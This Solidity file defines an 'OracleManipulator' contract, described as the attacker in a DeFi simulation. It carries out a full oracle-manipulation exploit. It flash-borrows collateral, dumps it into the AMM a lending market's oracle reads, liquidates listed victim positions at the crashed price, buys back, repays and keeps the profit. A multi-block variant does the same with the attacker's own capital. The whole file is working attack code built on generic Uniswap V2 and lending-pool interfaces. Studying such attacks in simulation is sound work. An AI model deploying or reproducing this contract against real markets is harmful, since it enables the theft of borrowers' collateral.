// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC20Metadata} from "@openzeppelin/contracts/token/ERC20/extensions/IERC20Metadata.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {IConstantProductPool, IUniswapV2Callee} from "../interfaces/IConstantProductPool.sol";
import {ILendingPool} from "../interfaces/ILendingPool.sol";
import {ConstantProductLibrary} from "../amm/ConstantProductLibrary.sol";

/// @title OracleManipulator
/// @notice The simulation's oracle-manipulation attacker (an adversary, not a keeper). Two modes:
/// - `flashAttack`, ONE transaction: flash-borrow collateral from a deep second AMM (`lender`), dump it into the AMM
///   the market's oracle reads, liquidate the victims at the crashed price (fixed bonus, repaid from the dump's
///   proceeds and the contract's own float), buy back what the flash swap must be repaid with (or sell the surplus),
///   repay, and keep the profit in the debt asset. Reverts with `UnprofitableAttack` below `minProfit`, so a failed
///   attack costs only gas.
/// - multi-block, with its own capital: `pushPriceDown` (sell collateral until the spot is at a target),
///   `liquidateMany` when the oracle has crossed, `pushPriceUp` to unwind (buy collateral back).
/// @dev Holds the attacker's funds; only `owner` may act. The flash callback is accepted only from the lender this
/// call is waiting on (transient slot). Prices are WAD, whole debt tokens per whole collateral token.
contract OracleManipulator is IUniswapV2Callee {
    using SafeERC20 for IERC20;

    /// @notice Profit (debt base units, may be negative) of a flash attack was below `minProfit`.
    error UnprofitableAttack(int256 profit, uint256 minProfit, uint256 liquidations);
    /// @notice The buy-back to repay the flash swap costs `cost` debt tokens, more than the `balance` held.
    error CannotRepayFlash(uint256 cost, uint256 balance);
    error NotOwner(address caller);
    error UnexpectedCallback(address caller);
    error PairMismatch(address pool);

    /// @notice One flash attack: `liquidations` successful liquidations repaid `repaid` and seized `seized`;
    /// `priceWad` is the market's oracle price inside the transaction after the dump.
    event FlashAttack(
        uint256 borrowed, uint256 liquidations, uint256 repaid, uint256 seized, uint256 priceWad, int256 profit
    );
    /// @notice A multi-block step: `liquidations` liquidations in this call.
    event LiquidatedMany(uint256 liquidations, uint256 repaid, uint256 seized);

    struct FlashParams {
        /// Deep AMM the collateral is flash-borrowed from (must not be the oracle's AMM: its reserves would not move).
        IConstantProductPool lender;
        /// AMM the market's oracle reads.
        IConstantProductPool oracleAmm;
        ILendingPool market;
        /// Positions to liquidate, tried in order (a failing one is skipped).
        address[] victims;
        /// Collateral (base units) flash-borrowed and dumped.
        uint256 borrowAmount;
        /// Times the victim list is walked (a position still under water after a close-factor-limited
        /// liquidation is liquidated again).
        uint256 passes;
        /// Debt base units of profit below which the whole transaction reverts.
        uint256 minProfit;
    }

    address public immutable owner;
    IERC20 public immutable collateral;
    IERC20 public immutable debtAsset;
    uint256 private immutable _collateralUnit;
    uint256 private immutable _debtUnit;

    /// @dev The lender whose flash-swap callback is expected during the current call.
    address private transient _expectedLender;
    uint256 private transient _liquidations;
    uint256 private transient _repaid;
    uint256 private transient _seized;
    uint256 private transient _price;

    constructor(address owner_, IERC20 collateral_, IERC20 debtAsset_) {
        owner = owner_;
        collateral = collateral_;
        debtAsset = debtAsset_;
        _collateralUnit = 10 ** IERC20Metadata(address(collateral_)).decimals();
        _debtUnit = 10 ** IERC20Metadata(address(debtAsset_)).decimals();
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    /* FLASH ATTACK (one transaction) */

    /// @notice Runs the one-transaction attack described in the contract's notice; returns the profit in debt base
    /// units and the number of liquidations.
    function flashAttack(FlashParams calldata p) external onlyOwner returns (uint256 profit, uint256 liquidations) {
        _checkPair(p.lender);
        _checkPair(p.oracleAmm);
        if (address(p.lender) == address(p.oracleAmm)) revert PairMismatch(address(p.lender));
        uint256 debtBefore = debtAsset.balanceOf(address(this));
        uint256 collateralBefore = collateral.balanceOf(address(this));
        bool collateralIs0 = p.lender.token0() == address(collateral);
        _expectedLender = address(p.lender);
        (uint256 out0, uint256 out1) = collateralIs0 ? (p.borrowAmount, uint256(0)) : (uint256(0), p.borrowAmount);
        p.lender.swap(out0, out1, address(this), abi.encode(p));
        _expectedLender = address(0);
        // 5. The seized collateral left over is sold into the deep lender, now unlocked (not into the crashed AMM).
        uint256 surplus = collateral.balanceOf(address(this)) - collateralBefore;
        if (surplus != 0) _swap(p.lender, collateral, surplus);
        int256 signed = int256(debtAsset.balanceOf(address(this))) - int256(debtBefore);
        liquidations = _liquidations;
        if (signed < int256(p.minProfit)) revert UnprofitableAttack(signed, p.minProfit, liquidations);
        profit = uint256(signed);
        emit FlashAttack(p.borrowAmount, liquidations, _repaid, _seized, _price, signed);
    }

    /// @inheritdoc IUniswapV2Callee
    function uniswapV2Call(address sender, uint256, uint256, bytes calldata data) external {
        if (msg.sender != _expectedLender || sender != address(this)) revert UnexpectedCallback(msg.sender);
        FlashParams memory p = abi.decode(data, (FlashParams));
        uint256 spotBefore = _spot(p.oracleAmm);
        // 1. Dump the borrowed collateral into the oracle's AMM: its spot price falls.
        _swap(p.oracleAmm, collateral, p.borrowAmount);
        _price = p.market.priceOf(address(collateral));
        // 2. Liquidate at the manipulated price.
        _liquidateAll(p.market, p.victims, p.passes);
        // 3. Buy the collateral back from the crashed AMM, up to its spot before the dump (cheap: only fees lost).
        _pushUp(p.oracleAmm, spotBefore, type(uint256).max);
        // 4. Repay the flash swap in collateral: input x (1 - fee) >= borrowed (Uniswap V2 rule), rounded up.
        uint256 owed = p.borrowAmount * 10_000 / (10_000 - p.lender.feeBps()) + 1;
        uint256 held = collateral.balanceOf(address(this));
        if (held < owed) {
            (uint256 rIn, uint256 rOut) = _reserves(p.oracleAmm, debtAsset);
            uint256 cost = ConstantProductLibrary.getAmountIn(owed - held, rIn, rOut, p.oracleAmm.feeBps());
            uint256 balance = debtAsset.balanceOf(address(this));
            if (cost > balance) revert CannotRepayFlash(cost, balance);
            _swap(p.oracleAmm, debtAsset, cost);
        }
        collateral.safeTransfer(msg.sender, owed);
    }

    /* MULTI-BLOCK (own capital) */

    /// @notice Sells collateral into `amm` until its spot is at most `targetPriceWad` (at most `maxIn`); returns
    /// the collateral sold (0 if the spot is already at or below the target).
    function pushPriceDown(IConstantProductPool amm, uint256 targetPriceWad, uint256 maxIn)
        external
        onlyOwner
        returns (uint256 sold)
    {
        _checkPair(amm);
        (uint256 x, uint256 y) = _reserves(amm, collateral);
        // Collateral reserve at which y/x is the target (k kept): x* = sqrt(x y / p); the fee needs 1 / (1 - fee)
        // more input. Rounded down: the spot lands at or just above the target.
        uint256 xTarget = Math.sqrt(Math.mulDiv(x * y, _collateralUnit * 1e18, targetPriceWad * _debtUnit));
        if (xTarget <= x) return 0;
        sold = Math.min(
            (xTarget - x) * 10_000 / (10_000 - amm.feeBps()), Math.min(maxIn, collateral.balanceOf(address(this)))
        );
        if (sold != 0) _swap(amm, collateral, sold);
    }

    /// @notice Buys collateral from `amm` with the debt asset until its spot is at least `targetPriceWad` (spending
    /// at most `maxIn`); returns the debt spent. Unwinds a push.
    function pushPriceUp(IConstantProductPool amm, uint256 targetPriceWad, uint256 maxIn)
        external
        onlyOwner
        returns (uint256 spent)
    {
        _checkPair(amm);
        spent = _pushUp(amm, targetPriceWad, maxIn);
    }

    /// @notice Liquidates each of `victims` that is liquidatable now (fixed bonus, as much as the close factor and
    /// the contract's debt balance allow); returns how many liquidations succeeded.
    function liquidateMany(ILendingPool market, address[] calldata victims, uint256 passes)
        external
        onlyOwner
        returns (uint256 liquidations)
    {
        _liquidateAll(market, victims, passes);
        liquidations = _liquidations;
        emit LiquidatedMany(liquidations, _repaid, _seized);
    }

    /// @notice Sends the attacker's funds out.
    function withdraw(IERC20 token, address to, uint256 amount) external onlyOwner {
        token.safeTransfer(to, amount);
    }

    /* INTERNALS */

    function _liquidateAll(ILendingPool market, address[] memory victims, uint256 passes) private {
        debtAsset.forceApprove(address(market), type(uint256).max);
        for (uint256 pass = 0; pass < passes; pass++) {
            for (uint256 i = 0; i < victims.length; i++) {
                uint256 balance = debtAsset.balanceOf(address(this));
                if (balance == 0) break;
                // A victim that is healthy, already closed or too big for the balance left is skipped.
                try market.liquidate(victims[i], address(collateral), balance, address(this), 0) returns (
                    uint256 repaid, uint256 seized
                ) {
                    _liquidations += 1;
                    _repaid += repaid;
                    _seized += seized;
                } catch {}
            }
        }
        debtAsset.forceApprove(address(market), 0);
    }

    /// @dev Debt reserve at which y/x is the target (k kept): y* = sqrt(x y p); 1 / (1 - fee) more input. Rounded
    /// down: the spot lands at or just below the target.
    function _pushUp(IConstantProductPool amm, uint256 targetPriceWad, uint256 maxIn) private returns (uint256 spent) {
        (uint256 x, uint256 y) = _reserves(amm, collateral);
        uint256 yTarget = Math.sqrt(Math.mulDiv(x * y, targetPriceWad * _debtUnit, _collateralUnit * 1e18));
        if (yTarget <= y) return 0;
        spent = Math.min(
            (yTarget - y) * 10_000 / (10_000 - amm.feeBps()), Math.min(maxIn, debtAsset.balanceOf(address(this)))
        );
        if (spent != 0) _swap(amm, debtAsset, spent);
    }

    /// @dev Spot of `amm`, WAD whole debt tokens per whole collateral token, rounded down.
    function _spot(IConstantProductPool amm) private view returns (uint256) {
        (uint256 x, uint256 y) = _reserves(amm, collateral);
        return Math.mulDiv(y, _collateralUnit * 1e18, x * _debtUnit);
    }

    function _swap(IConstantProductPool pool, IERC20 tokenIn, uint256 amountIn) private {
        (uint256 rIn, uint256 rOut) = _reserves(pool, tokenIn);
        uint256 out = ConstantProductLibrary.getAmountOut(amountIn, rIn, rOut, pool.feeBps());
        if (out == 0) return; // dust (e.g. wei left by a rounded-up buy): not worth a swap, and V2 would revert
        tokenIn.safeTransfer(address(pool), amountIn);
        bool inIs0 = pool.token0() == address(tokenIn);
        pool.swap(inIs0 ? 0 : out, inIs0 ? out : 0, address(this), "");
    }

    function _reserves(IConstantProductPool pool, IERC20 tokenIn) private view returns (uint256, uint256) {
        (uint112 r0, uint112 r1,) = pool.getReserves();
        return pool.token0() == address(tokenIn) ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
    }

    function _checkPair(IConstantProductPool pool) private view {
        address t0 = pool.token0();
        address t1 = pool.token1();
        bool ok = (t0 == address(collateral) && t1 == address(debtAsset))
            || (t0 == address(debtAsset) && t1 == address(collateral));
        if (!ok) revert PairMismatch(address(pool));
    }
}
